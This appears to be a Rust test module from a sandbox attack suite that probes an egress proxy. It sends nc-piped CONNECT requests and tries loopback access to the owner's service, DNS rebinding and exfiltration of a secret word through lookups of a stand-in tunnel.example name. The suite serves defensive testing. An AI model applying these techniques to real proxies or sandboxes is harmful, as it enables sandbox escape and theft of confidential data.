//! A job that may reach named hosts, and tries its proxy for more: the owner's machine, the owner's house, and names as a way out.

use crate::ground::{Ground, confidential};
use crate::outside::Pair;
use sela_attacks::arena::GREETING;
use sela_attacks::verdict::{Held, Outcome};
use sela_protocol::network::{HostName, JobNetwork, NetworkShare};
use sela_protocol::units::Bytes;
use sela_sandbox::keeper::wire::Egress;
use sela_sandbox::network::{OwnersLine, PROXY, Prefix, Uplink};
use std::io::{self, Read as _};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::{Arc, Mutex};
use tokio::net::TcpStream;

/// Somewhere that nobody forbids, and nobody answers.
const HARMLESS: IpAddr = IpAddr::V4(Ipv4Addr::new(93, 184, 216, 34));

/// What a job's proxy works with.
pub(crate) struct Served {
    pub(crate) network: JobNetwork,
    pub(crate) line: OwnersLine,
    pub(crate) uplink: Names,
}

/// Names that the attacker's own name server answers for: each time with the next address. Connections are real ones.
#[derive(Debug, Clone)]
pub(crate) struct Names {
    answers: Vec<Vec<IpAddr>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Uplink for Names {
    async fn resolve(&self, name: &HostName) -> io::Result<Vec<IpAddr>> {
        let mut asked = self.asked.lock().unwrap();
        asked.push(name.to_string());
        let at = (asked.len() - 1).min(self.answers.len() - 1);
        Ok(self.answers[at].clone())
    }

    fn own_networks(&self) -> io::Result<Vec<Prefix>> {
        Ok(Vec::new())
    }

    async fn connect(&self, address: SocketAddr) -> io::Result<TcpStream> {
        if address.ip() == HARMLESS {
            return Err(io::ErrorKind::ConnectionRefused.into());
        }
        TcpStream::connect(address).await
    }
}

/// Runs a job that asks its proxy for each of these; gives what it was answered, and the names that were resolved for it.
async fn ask(ground: &Ground, host: &str, answers: Vec<Vec<IpAddr>>, wanted: &[&str]) -> (String, Vec<String>) {
    let asks: Vec<String> = wanted
        .iter()
        .map(|host| {
            format!(
                "printf 'CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n' | nc -w 2 {} {}",
                PROXY.ip(),
                PROXY.port()
            )
        })
        .collect();
    let mut plan = ground.script(&format!("{}; true", asks.join("; ")));
    plan.egress = Egress::Proxy;
    let rules = vec![host.parse().unwrap()];
    let uplink = Names {
        answers,
        asked: Arc::default(),
    };
    let served = Served {
        network: JobNetwork {
            hosts: rules.clone(),
            down_per_s: None,
            up_per_s: None,
            bytes: None,
        },
        line: OwnersLine::new(NetworkShare {
            hosts: rules,
            down_per_s: Bytes(1 << 30),
            up_per_s: Bytes(1 << 30),
            job_bytes: Bytes(1 << 30),
        }),
        uplink: uplink.clone(),
    };
    let outcome = ground.start_with(&plan, &confidential(), Some(served)).finish().await;
    let asked = uplink.asked.lock().unwrap().clone();
    (outcome.out, asked)
}

fn judged(answered: &str) -> Outcome {
    if answered.contains(GREETING) {
        return Ok("the owner's service answered".to_owned());
    }
    let lines: Vec<&str> = answered.lines().filter(|line| line.starts_with("HTTP/")).collect();
    if lines.is_empty() {
        return Ok(format!("nobody refused it: {answered:?}"));
    }
    Err(Held::nothing(lines.join(", ")))
}

/// What a proxy does that connects to whatever it is asked for.
fn naive(address: SocketAddr) -> Outcome {
    let mut heard = String::new();
    std::net::TcpStream::connect(address)?.read_to_string(&mut heard)?;
    judged(&heard)
}

fn owner(ground: &Ground) -> SocketAddr {
    SocketAddr::from((Ipv4Addr::LOCALHOST, ground.owner_port))
}

pub(crate) async fn loopback(ground: &Ground) -> Pair {
    let port = ground.owner_port;
    let named = format!("house.example:{port}");
    let bare = format!("127.0.0.1:{port}");
    let (answered, _) = ask(ground, &named, vec![vec![owner(ground).ip()]], &[&named, &bare]).await;
    Pair::new(naive(owner(ground)), judged(&answered))
}

pub(crate) async fn rebound(ground: &Ground) -> Pair {
    let own = owner(ground).ip();
    let named = format!("rebound.example:{}", ground.owner_port);
    // Harmless when it is looked at, the owner's when it is used; and both at once.
    let answers = vec![vec![HARMLESS], vec![own], vec![HARMLESS, own]];
    let (answered, _) = ask(ground, &named, answers, &[&named, &named, &named]).await;
    Pair::new(naive(owner(ground)), judged(&answered))
}

pub(crate) async fn names(ground: &Ground) -> Pair {
    let wanted = format!("{}.tunnel.example:443", ground.word);
    let (answered, asked) = ask(ground, "allowed.example", vec![vec![HARMLESS]], &[&wanted]).await;
    let behind = if asked.iter().any(|name| name.contains(&ground.word)) {
        Ok(format!("{asked:?} was resolved"))
    } else {
        judged(&answered)
    };
    let plain = Names {
        answers: vec![vec![HARMLESS]],
        asked: Arc::default(),
    };
    let name: HostName = format!("{}.tunnel.example", ground.word).parse().unwrap();
    drop(plain.resolve(&name).await);
    let asked = plain.asked.lock().unwrap().clone();
    let without = if asked == [name.to_string()] {
        Ok("whoever resolves first and asks afterwards lets it out".to_owned())
    } else {
        Err(Held::nothing("it was not asked"))
    };
    Pair::new(without, behind)
}
